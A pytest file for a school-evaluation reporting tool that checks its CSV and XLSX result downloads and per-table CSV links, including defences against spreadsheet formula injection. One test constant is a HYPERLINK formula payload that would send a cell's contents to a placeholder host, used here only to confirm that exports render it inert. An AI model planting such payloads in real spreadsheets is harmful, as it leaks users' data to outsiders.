"""Downloads (issue 13, point 8): the run's results.csv/results.xlsx and every table's CSV link.

The run's files hold one row per status the reports show, suppress what the reports suppress,
are inert in a spreadsheet and byte-identical on a rerun. Every data table in the school
reports and the overview has a link whose data URI decodes to exactly the table's visible cells.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from bs4 import BeautifulSoup

from evallib.contract.programme import load_programme
from evallib.core.export import csv_text, inert, xlsx_bytes
from evallib.reporting.downloads import COLUMNS, RESULTS_CSV, RESULTS_XLSX, header, results_files
from evallib.reporting.html import csv_link

PROGRAMME = "programmes/haaglanden-2013.yaml"
COLUMN = {key: i for i, key in enumerate(COLUMNS)}
URI = "data:text/csv;charset=utf-8,"
INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


def _csv(reports: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO((reports / RESULTS_CSV).read_text(encoding="utf-8"))))


def _ledger(reports: Path) -> dict:
    return json.loads((reports / "ledger.json").read_text(encoding="utf-8"))["reports"]


def _report_pages(reports: Path) -> list[Path]:
    """The school reports and the overview (not the index, not failure pages)."""
    ledger = _ledger(reports)
    return [reports / e["report"] for e in ledger.values() if e["status"] == "ok"]


def test_results_have_the_columns_and_one_row_per_status(example_run) -> None:
    assert example_run.completed.returncode == 0, example_run.completed.stderr
    table = _csv(example_run.reports)
    assert table[0] == header("nl")
    body = table[1:]
    ledger = _ledger(example_run.reports)
    assert len(body) == sum(len(e["results"]) for e in ledger.values())
    assert all(len(row) == len(COLUMNS) for row in body)
    # the index grid: one cell per school x target, a folded cell counts its locations
    index = BeautifulSoup((example_run.reports / "index.html").read_text("utf-8"), "html.parser")
    cells = index.select("#schools td[data-status]")
    folded = 0
    for cell in cells:
        note = cell.select_one(".locations")
        folded += int(re.search(r"van (\d+)", note.get_text()).group(1)) if note else 1
    school_rows = [r for r in body if r[COLUMN["scope"]] != "regio"]
    assert len(school_rows) == folded
    pairs = {(r[COLUMN["brin"]], r[COLUMN["target"]]) for r in school_rows}
    assert len(pairs) == len(cells)
    # the overview's region targets are there too, and the rows come sorted and complete
    assert any(r[COLUMN["scope"]] == "regio" for r in body)
    assert all(r[COLUMN["period"]] and r[COLUMN["status"]] for r in body)
    links = [a["href"] for a in index.select("p.downloads a")]
    assert links == [RESULTS_CSV, RESULTS_XLSX]


def _effect_cells(page: Path) -> dict[str, str]:
    """Per target row id: the text of its 'uitkomst (95%-interval)' cell, as a reader sees it."""
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    return {
        row["id"]: " ".join(row.find_all("td")[5].get_text(" ").split())
        for row in soup.select("tr.target[id]")
    }


def test_results_suppress_exactly_what_the_reports_suppress(example_run) -> None:
    reports = example_run.reports
    min_group = load_programme(PROGRAMME).min_group
    ledger = _ledger(reports)
    shown_in = {key: _effect_cells(reports / e["report"]) for key, e in ledger.items()}
    rows = _csv(reports)[1:]
    suppressed = 0
    for row in rows:
        values = {key: row[i] for key, i in COLUMN.items()}
        key = values["brin"] or "regio"
        target, location = values["target"], values["location"]
        anchor = re.sub(r"[^A-Za-z0-9_-]", "-", "-".join(filter(None, ["doel", target, location])))
        shown = values["shown"].removeprefix("'")  # the apostrophe that keeps "+…" inert
        assert shown_in[key][anchor] == " ".join(shown.split()), (key, anchor)
        numbers = [values[k] for k in ("estimate", "ci_lower", "ci_upper", "n")]
        if shown == "onderdrukt":
            suppressed += 1
            assert numbers == ["", "", "", ""], row
            assert values["withheld"].startswith("onderdrukt"), row
        if values["n"]:
            assert int(values["n"]) >= min_group, row
    assert suppressed >= 1  # the example data have a small nulmeting (Adelbert's starters)


def test_results_are_byte_identical_on_rerun_and_in_the_manifest(
    example_run, small_run, small_rerun
) -> None:
    assert small_rerun.completed.returncode == 0, small_rerun.completed.stderr
    for name in (RESULTS_CSV, RESULTS_XLSX):
        first = (small_run.reports / name).read_bytes()
        assert first == (small_rerun.reports / name).read_bytes(), name
    manifest = json.loads((example_run.reports / "manifest.json").read_text("utf-8"))["reports"]
    for name in (RESULTS_CSV, RESULTS_XLSX):
        assert manifest[name]["download"] is True and len(manifest[name]["sha256"]) == 64
    workbook = openpyxl.load_workbook(example_run.reports / RESULTS_XLSX)
    sheet = workbook.active
    assert [c.value for c in sheet[1]] == header("nl")
    assert sheet.max_row == len(_csv(example_run.reports))
    reference = load_programme(PROGRAMME).reference_date
    assert workbook.properties.modified == dt.datetime.combine(reference, dt.time())


def test_a_name_like_a_formula_comes_out_inert() -> None:
    p = load_programme(PROGRAMME)
    school = p.participating[0]
    p = p.model_copy(
        update={
            "schools": tuple(
                s.model_copy(update={"name": INJECTION}) if s.brin == school.brin else s
                for s in p.schools
            )
        }
    )
    record = {
        "target": p.targets[0].id,
        "title": "@SUM(A1:A9)",
        "project": p.targets[0].project,
        "level": "school",
        "scope": school.brin,
        "scope_name": INJECTION,
        "period": "2015/16",
        "status": "gehaald",
        "kind": "share",
        "estimate": -0.5,
        "n": 40,
        "shown": "+10,0 procentpunt",
    }
    files = results_files(p, {school.brin: [record]})
    row = list(csv.reader(io.StringIO(files[RESULTS_CSV].decode("utf-8"))))[1]
    assert row[COLUMN["school"]] == "'" + INJECTION
    assert row[COLUMN["where"]] == "'" + INJECTION
    assert row[COLUMN["target_title"]] == "'@SUM(A1:A9)"
    assert row[COLUMN["shown"]] == "'+10,0 procentpunt"
    assert row[COLUMN["estimate"]] == "-0.5"  # a number stays a number
    cells = list(openpyxl.load_workbook(io.BytesIO(files[RESULTS_XLSX])).active.iter_rows())[1]
    school_cell = cells[COLUMN["school"]]
    assert school_cell.value == INJECTION and school_cell.data_type == "s"  # text, no formula
    assert cells[COLUMN["estimate"]].value == -0.5
    # and a table's CSV link in a report
    link = csv_link(["school"], [[INJECTION]])
    decoded = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]*)"', link).group(1))
    assert decoded.splitlines()[1].startswith("\"'=HYPERLINK")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_made_inert(first: str) -> None:
    assert inert(first + "1") == "'" + first + "1"
    text = csv_text(["a"], [[first + "cmd"]])
    assert list(csv.reader(io.StringIO(text, newline="")))[1][0].startswith("'")
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes(["a"], [[first + "cmd"]], sheet="s", when=dt.datetime(2016, 7, 31)))
    )
    assert book.active["A2"].data_type == "s"


def _visible(cell) -> str:
    return " ".join(cell.get_text(" ").split())


def test_every_table_has_a_csv_link_with_its_visible_cells(example_run) -> None:
    pages = _report_pages(example_run.reports)
    checked = 0
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        for table in soup.select("table.data"):
            wrap = table.find_parent("div", class_="table-wrap")
            link = wrap.find_next_sibling()
            assert link is not None and "table-download" in link.get("class", []), (
                page.name,
                str(table)[:200],
            )
            href = link.a["href"]
            assert href.startswith(URI) and link.a["download"].endswith(".csv")
            decoded = list(csv.reader(io.StringIO(unquote(href[len(URI) :]), newline="")))
            visible = [
                [_visible(c) for c in tr.find_all(["th", "td"])] for tr in table.select("tr")
            ]
            assert [[c.removeprefix("'") for c in row] for row in decoded] == visible, page.name
            checked += 1
    assert checked >= 3 * len(pages)


def test_results_headers_and_words_follow_the_language() -> None:
    p = load_programme(PROGRAMME)
    brin = p.participating[0].brin
    record = {
        "target": p.targets[0].id,
        "project": p.targets[0].project,
        "level": "school",
        "scope": brin,
        "status": "niet_zeker",
        "kind": "ratio",
        "unit": "persons",
        "method": "katz-log",
        "withheld": "small_group",
    }
    for lang, first, words in (
        ("nl", "programma,brin,school,niveau", ("niet zeker", "personen", "onderdrukt")),
        ("en", "programme,brin,school,scope", ("uncertain", "persons", "suppressed")),
    ):
        text = results_files(p, {brin: [record]}, lang)[RESULTS_CSV].decode("utf-8")
        assert text.startswith(first)
        row = list(csv.reader(io.StringIO(text)))[1]
        assert row[COLUMN["status"]] == words[0]
        assert row[COLUMN["unit"]] == words[1]
        assert row[COLUMN["withheld"]].startswith(words[2])
